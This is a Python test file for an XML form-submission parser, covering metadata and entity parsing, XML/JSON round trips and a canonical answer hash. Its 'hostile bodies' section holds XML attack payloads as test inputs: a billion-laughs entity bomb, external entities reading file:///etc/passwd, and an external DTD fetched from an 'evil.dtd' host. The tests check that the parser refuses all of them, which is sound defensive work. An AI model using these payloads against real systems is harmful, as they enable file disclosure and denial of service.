"""Submissions: safe parsing, meta and entities, XML and JSON round trips, the canonical hash."""

from __future__ import annotations

import time
import unicodedata

import pytest

from forms.canonical import answers_hash, canonical_answers
from forms.errors import SubmissionError
from forms.instance import (
    Submission,
    answers_to_node,
    from_answers,
    parse_submission,
    to_answers,
    to_xml,
)
from forms.model import Field, FormModel
from forms.tree import Node

VISIT = """<?xml version="1.0" encoding="UTF-8"?>
<data xmlns:jr="http://openrosa.org/javarosa" xmlns:orx="http://openrosa.org/xforms"
      id="household_visit" version="2025090101">
  <village>Bản Phố</village>
  <head>
    <name>Lò Văn Minh</name>
    <age>34</age>
  </head>
  <member><m_name>Lò Thị Hoa</m_name><m_age>30</m_age></member>
  <member><m_name>Lò Văn An</m_name><m_age>7</m_age></member>
  <note/>
  <meta>
    <instanceID>uuid:6b1f3c1e-7f57-4a3e-9d43-0d2a1b7c9e11</instanceID>
    <instanceName>Bản Phố - Lò Văn Minh</instanceName>
  </meta>
</data>
"""


def parse(text: str):
    return parse_submission(text.encode("utf-8"))


def tree_shape(node: Node):
    """Everything that makes up a tree, as plain values, for equality checks."""
    kids = [tree_shape(c) for c in node.children]
    return (node.name, node.text, sorted(node.attrs.items()), kids)


# -- parsing ---------------------------------------------------------------------------


def test_parse_reads_identity_meta_and_structure():
    sub = parse(VISIT)
    assert (sub.form_id, sub.version) == ("household_visit", "2025090101")
    assert sub.instance_id == "uuid:6b1f3c1e-7f57-4a3e-9d43-0d2a1b7c9e11"
    assert sub.instance_name == "Bản Phố - Lò Văn Minh"
    assert sub.deprecated_id is None and sub.entity is None
    assert [m.find("m_name").text for m in sub.root.children_named("member")] == [
        "Lò Thị Hoa",
        "Lò Văn An",
    ]
    assert sub.root.find("head/age").text == "34"
    assert sub.raw == VISIT.encode("utf-8")


def test_parse_keeps_local_names_of_namespaced_roots_and_orx_meta():
    xml = """<data xmlns="http://opendatakit.org/submissions" xmlns:orx="http://openrosa.org/xforms"
        id="f" orx:version="7"><q>1</q><orx:meta><orx:instanceID>uuid:abc</orx:instanceID>
        <orx:deprecatedID>uuid:old</orx:deprecatedID></orx:meta></data>"""
    sub = parse(xml)
    assert sub.namespace == "http://opendatakit.org/submissions"
    assert (sub.form_id, sub.version) == ("f", "7")
    assert (sub.instance_id, sub.deprecated_id) == ("uuid:abc", "uuid:old")
    assert [c.name for c in sub.root.children] == ["q", "meta"]


def test_parse_reads_the_entity_block():
    xml = """<data id="hh_visit"><hh_name>Nguyễn Văn An</hh_name><meta>
      <instanceID>uuid:1</instanceID>
      <entity dataset="households" id="uuid:0b6a4c2e-4c1f-4d8e-9f44-3f1f8f0e2a10" create="0"
              update="true" baseVersion="3" trunkVersion="2" branchId="b-77">
        <label>Hộ Nguyễn Văn An</label></entity></meta></data>"""
    entity = parse(xml).entity
    assert entity.dataset == "households"
    assert entity.id == "0b6a4c2e-4c1f-4d8e-9f44-3f1f8f0e2a10"
    assert (entity.create, entity.update) == (False, True)
    assert (entity.base_version, entity.trunk_version, entity.branch_id) == (3, 2, "b-77")
    assert entity.label == "Hộ Nguyễn Văn An"


def test_parse_finds_entities_declared_inside_repeats():
    xml = """<data id="f"><plot><meta><entity dataset="plots" id="a" create="1"/></meta></plot>
      <plot><meta><entity dataset="plots" id="b" create="1"/></meta></plot>
      <meta><instanceID>uuid:1</instanceID></meta></data>"""
    sub = parse(xml)
    assert [e.id for e in sub.entities] == ["a", "b"]
    assert sub.entity.id == "a" and sub.entity.create


def test_json_answers_note_their_entity_blocks_in_document_order_as_a_walk_finds_them():
    xml = """<data id="f"><plot><meta><entity dataset="plots" id="a" create="1"/></meta></plot>
      <plot><meta><entity dataset="plots" id="b" create="1"/></meta></plot>
      <meta><instanceID>uuid:1</instanceID><entity dataset="households" id="c" update="1">
      <label>Hộ</label></entity></meta><entity id="not-in-meta"/></data>"""
    answers = to_answers(parse(xml).root)
    noted: list[Node] = []
    root = answers_to_node(answers, "data", entities=noted)
    walked = [n for n in root.iter() if n.name == "entity" and n.parent.name == "meta"]
    assert [id(n) for n in noted] == [id(n) for n in walked]
    assert [n.attrs["id"] for n in noted] == ["a", "b", "c"]
    form = small_form()
    noted = []
    rebuilt = from_answers(to_answers(parse(VISIT).root, form), form, entities=noted)
    assert noted == [] and Submission.from_root(rebuilt, entity_nodes=noted).entity is None
    with_entity = {**answers, "meta": {"entity": {"@id": "uuid:d", "@update": "1"}}}
    from_json = Submission.from_root(
        from_answers(with_entity, form, entities=noted), entity_nodes=noted
    )
    assert from_json.entity.id == "d" and from_json.entity.update


def test_parse_reads_cdata_and_drops_comments():
    sub = parse("<data id='f'><a><![CDATA[x < y & z]]></a><!-- note --><b>1<!--c-->2</b></data>")
    assert sub.root.find("a").text == "x < y & z"
    assert sub.root.find("b").text == "12"
    assert [c.name for c in sub.root.children] == ["a", "b"]


@pytest.mark.parametrize(
    "body, code",
    [
        (b"", "submission_empty"),
        (b"<data><open></data>", "xml_malformed"),
        (b"not xml at all", "xml_malformed"),
        (b"<data>&undefined;</data>", "xml_malformed"),
    ],
)
def test_unreadable_bodies_are_refused_with_400(body, code):
    with pytest.raises(SubmissionError) as err:
        parse_submission(body)
    assert (err.value.status, err.value.code) == (400, code)
    assert err.value.message and err.value.message_vi


# -- hostile bodies ----------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<data id="f"><q>&lol9;</q></data>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE data [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<data id="f"><q>&xxe;</q></data>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE data SYSTEM "http://203.0.113.9/evil.dtd"><data id="f"><q>1</q></data>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE data [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]><data id="f"/>"""

PLAIN_DOCTYPE = b'<!DOCTYPE data><data id="f"><q>1</q></data>'


@pytest.mark.parametrize(
    "body", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY, PLAIN_DOCTYPE]
)
def test_dtds_and_entities_are_refused_fast_and_never_expanded(body):
    started = time.perf_counter()
    with pytest.raises(SubmissionError) as err:
        parse_submission(body)
    assert time.perf_counter() - started < 0.5
    assert (err.value.status, err.value.code) == (400, "xml_doctype_forbidden")
    text = f"{err.value.message} {err.value.message_vi}"
    assert "root:" not in text and "lollol" not in text


def test_body_over_the_limit_is_refused_with_413_before_parsing():
    body = b'<data id="f"><q>' + b"x" * (20 * 1024 * 1024) + b"</q></data>"
    started = time.perf_counter()
    with pytest.raises(SubmissionError) as err:
        parse_submission(body)
    assert time.perf_counter() - started < 0.1
    assert (err.value.status, err.value.code) == (413, "submission_too_large")
    assert "10 MB" in err.value.message and "10 MB" in err.value.message_vi


def test_a_gigantic_single_field_is_refused_with_413():
    body = b'<data id="f"><q>' + "ệ".encode() * (5 * 1024 * 1024 // 3) + b"</q></data>"
    started = time.perf_counter()
    with pytest.raises(SubmissionError) as err:
        parse_submission(body)
    assert time.perf_counter() - started < 1.0
    assert (err.value.status, err.value.code) == (413, "field_too_large")
    assert "'q'" in err.value.message


def test_limits_are_configurable():
    body = b'<data id="f"><q>' + b"x" * 2000 + b"</q></data>"
    assert parse_submission(body, max_field_bytes=4000).root.find("q").text == "x" * 2000
    with pytest.raises(SubmissionError) as err:
        parse_submission(body, max_field_bytes=1000)
    assert err.value.status == 413
    with pytest.raises(SubmissionError) as err:
        parse_submission(body, max_bytes=1000)
    assert err.value.code == "submission_too_large"


def test_deep_nesting_is_refused():
    body = b"<data>" + b"<g>" * 100 + b"</g>" * 100 + b"</data>"
    with pytest.raises(SubmissionError) as err:
        parse_submission(body)
    assert (err.value.status, err.value.code) == (413, "xml_too_deep")
    assert parse_submission(body, max_depth=200).root.name == "data"


def test_too_many_elements_are_refused_before_the_tree_is_built():
    """issue 13, finding 4: the element count is bounded in the streaming pass."""
    body = b"<data>" + b"<a/>" * 1000 + b"</data>"
    with pytest.raises(SubmissionError) as err:
        parse_submission(body, max_elements=500)
    assert (err.value.status, err.value.code) == (413, "too_many_elements")
    assert len(parse_submission(body, max_elements=1001).root.children) == 1000


# -- writing XML -------------------------------------------------------------------------


def test_to_xml_round_trips_awkward_values():
    root = Node("data", attrs={"id": "f", "version": "1", "note": 'a "b"\n\tc <&>'})
    root.append(Node("q", "x < y && z > \"w\" 'v'"))
    root.append(Node("crlf", "line one\r\nline two\r"))
    root.append(Node("vi", "Hộ nghèo – Đắk Lắk"))
    root.append(Node("spaces", "  padded  "))
    root.append(Node("empty"))
    group = root.append(Node("g", attrs={"k": "1"}))
    group.append(Node("leaf", "v", attrs={"a": "b"}))
    xml = to_xml(root)
    assert xml.startswith(b'<?xml version="1.0" encoding="UTF-8"?><data ')
    assert tree_shape(parse_submission(xml).root) == tree_shape(root)


def test_read_write_read_of_a_submission_is_unchanged():
    first = parse(VISIT)
    again = parse_submission(to_xml(first))
    assert tree_shape(again.root) == tree_shape(first.root)
    assert again.instance_id == first.instance_id


# -- JSON answers ------------------------------------------------------------------------


def small_form() -> FormModel:
    """A form model by hand: /data with a group `head` and a repeat `member`."""
    root = Field("/data", "data", kind="group", datatype="")
    fields = {"/data": root}

    def add(parent: Field, name: str, kind: str = "question") -> Field:
        f = Field(f"{parent.path}/{name}", name, kind=kind, parent=parent)
        parent.children.append(f)
        fields[f.path] = f
        return f

    add(root, "village")
    head = add(root, "head", "group")
    add(head, "name")
    add(head, "age")
    member = add(root, "member", "repeat")
    add(member, "m_name")
    add(member, "m_age")
    add(root, "note")
    meta = add(root, "meta", "group")
    add(meta, "instanceID", "meta")
    add(meta, "instanceName", "meta")
    template = Node("data", attrs={"id": "household_visit", "version": "2025090101"})
    return FormModel(
        form_id="household_visit",
        version="2025090101",
        title="Visit",
        root_name="data",
        root=root,
        fields=fields,
        template=template,
        xform=b"",
    )


def test_to_answers_shape():
    answers = to_answers(parse(VISIT).root)
    assert answers["@id"] == "household_visit"
    assert answers["head"] == {"name": "Lò Văn Minh", "age": "34"}
    assert answers["member"] == [
        {"m_name": "Lò Thị Hoa", "m_age": "30"},
        {"m_name": "Lò Văn An", "m_age": "7"},
    ]
    assert answers["note"] == ""
    assert answers["meta"]["instanceID"].startswith("uuid:")


def test_a_single_repeat_instance_is_a_list_only_when_the_form_says_so():
    xml = '<data id="f"><member><m_name>A</m_name></member><head><name>B</name></head></data>'
    root = parse(xml).root
    assert to_answers(root)["member"] == {"m_name": "A"}
    assert to_answers(root, small_form())["member"] == [{"m_name": "A"}]
    assert to_answers(root, small_form())["head"] == {"name": "B"}


def test_attributes_become_at_keys_and_text_of_leaves_with_attributes_is_hash_text():
    xml = '<data id="f"><meta><entity dataset="hh" id="1"><label>L</label></entity></meta>'
    xml += '<photo type="image/jpeg">a.jpg</photo></data>'
    answers = to_answers(parse(xml).root)
    assert answers["meta"]["entity"] == {"@dataset": "hh", "@id": "1", "label": "L"}
    assert answers["photo"] == {"@type": "image/jpeg", "#text": "a.jpg"}
    rebuilt = answers_to_node(answers, "data")
    assert tree_shape(rebuilt) == tree_shape(parse(xml).root)


def test_json_answers_rebuild_the_same_xml_in_form_order():
    form = small_form()
    original = parse(VISIT).root
    answers = to_answers(original, form)
    shuffled = dict(reversed(list(answers.items())))  # JSON objects have no order
    rebuilt = from_answers(shuffled, form)
    assert [c.name for c in rebuilt.children] == [c.name for c in original.children]
    assert tree_shape(parse_submission(to_xml(rebuilt)).root) == tree_shape(original)


def test_json_scalars_are_stored_as_odk_would():
    root = answers_to_node({"n": 3, "x": 2.0, "y": 0.25, "ok": True, "none": None}, "data")
    assert [(c.name, c.text) for c in root.children] == [
        ("n", "3"),
        ("x", "2"),
        ("y", "0.25"),
        ("ok", "true"),
        ("none", ""),
    ]


@pytest.mark.parametrize(
    "answers",
    [
        {"bad name": "x"},
        {"<script>": "x"},
        {"q": "bell \x07"},
        {"q": "lone surrogate \ud800"},
        {"q": {"nested": object()}},
        {"q": float("nan")},
        {"@bad attr": "x"},
        ["not", "an", "object"],
    ],
)
def test_invalid_json_answers_are_refused(answers):
    with pytest.raises(SubmissionError) as err:
        answers_to_node(answers, "data")
    assert (err.value.status, err.value.code) == (400, "answers_invalid")


# -- canonical form and hash (sync-contract R2) -----------------------------------------


def h(xml: str | bytes) -> str:
    data = xml.encode("utf-8") if isinstance(xml, str) else xml
    return answers_hash(parse_submission(data).root)


COMPACT = (
    '<data id="f" version="2"><name>Nguyễn Thị Hoà</name><g><a>1</a><b>2</b></g>'
    '<m><x>1</x></m><m><x>2</x></m><meta entity="e" kind="k"><instanceID>uuid:1</instanceID>'
    "</meta></data>"
)


def test_r2_formatting_differences_do_not_change_the_hash():
    base = h(COMPACT)
    pretty = """<?xml version='1.0' encoding='UTF-8' ?>
    <data version="2" id="f">
      <name>Nguyễn Thị Hoà</name>
      <g>
        <a>1</a>
        <b>2</b>
      </g>
      <m><x>1</x></m>
      <m><x>2</x></m>
      <meta kind="k" entity="e"><instanceID>uuid:1</instanceID></meta>
    </data>"""
    prefixed = COMPACT.replace("<data ", '<d:data xmlns:d="urn:x" ').replace("</data>", "</d:data>")
    prefixed = prefixed.replace("<meta", "<orx:meta xmlns:orx='http://openrosa.org/xforms'")
    prefixed = prefixed.replace("</meta>", "</orx:meta>")
    nfd = unicodedata.normalize("NFD", COMPACT)
    assert nfd != COMPACT
    utf16 = '<?xml version="1.0" encoding="UTF-16"?>' + COMPACT
    for variant in (pretty, prefixed, nfd, utf16.encode("utf-16")):
        assert h(variant) == base


def test_r2_empty_and_missing_elements_are_the_same_answer():
    collect = '<data id="f"><q>1</q><meta><instanceID>uuid:1</instanceID></meta></data>'
    enketo = (
        '<data id="f"><q>1</q><skipped/><grp><a/><b></b></grp><r>  </r>'
        "<meta><instanceID>uuid:1</instanceID><deprecatedID/></meta></data>"
    )
    assert h(collect) == h(enketo)


def test_r2_surrounding_whitespace_of_a_value_does_not_count_but_inner_whitespace_does():
    plain = h('<data id="f"><q>Lò Văn Minh</q></data>')
    assert plain == h('<data id="f"><q>\n  Lò Văn Minh\n</q></data>')
    assert plain != h('<data id="f"><q>Lò Văn  Minh</q></data>')


@pytest.mark.parametrize(
    "change",
    [
        lambda x: x.replace("Hoà", "Hòa"),  # tone mark placement: a different spelling
        lambda x: x.replace("<a>1</a>", "<a>10</a>"),
        lambda x: x.replace("<m><x>2</x></m>", ""),  # repeat instance removed
        lambda x: x.replace("</meta>", "</meta><m><x>3</x></m>"),  # repeat instance added
        lambda x: x.replace("<m><x>1</x></m><m><x>2</x></m>", "<m><x>2</x></m><m><x>1</x></m>"),
        lambda x: x.replace('kind="k"', 'kind="K"'),  # attribute value
        lambda x: x.replace('kind="k"', ""),  # attribute removed
        lambda x: x.replace('version="2"', 'version="3"'),  # form version on the root
        lambda x: x.replace("<g>", "<g><c>new</c>"),  # an answer added
        lambda x: x.replace("<b>2</b>", ""),  # an answer removed
    ],
)
def test_r2_every_kind_of_answer_change_changes_the_hash(change):
    changed = change(COMPACT)
    assert changed != COMPACT
    assert h(changed) != h(COMPACT)


def test_r2_json_and_xml_of_the_same_answers_hash_alike():
    form = small_form()
    xml_root = parse(VISIT).root
    answers = to_answers(xml_root, form)
    # A JSON client sends keys in its own order, NFD text and leaves out empty answers.
    del answers["note"]
    answers["head"] = {"age": 34, "name": unicodedata.normalize("NFD", answers["head"]["name"])}
    json_root = from_answers(dict(reversed(list(answers.items()))), form)
    assert answers_hash(json_root) == answers_hash(xml_root)
    assert canonical_answers(json_root) == canonical_answers(xml_root)
    answers["member"][1]["m_age"] = "8"
    assert answers_hash(from_answers(answers, form)) != answers_hash(xml_root)


def test_canonical_bytes_are_readable_and_deterministic():
    canon = canonical_answers(parse(COMPACT).root)
    assert canon.startswith(b'<data id="f" version="2">')
    assert canon == canonical_answers(parse(COMPACT).root)
    assert "Nguyễn Thị Hoà".encode() in canon


def test_deeply_nested_json_answers_are_refused():
    deep: dict = {"leaf": "x"}
    for _ in range(100):
        deep = {"g": deep}
    with pytest.raises(SubmissionError) as err:
        answers_to_node(deep, "data")
    assert err.value.code == "answers_invalid"
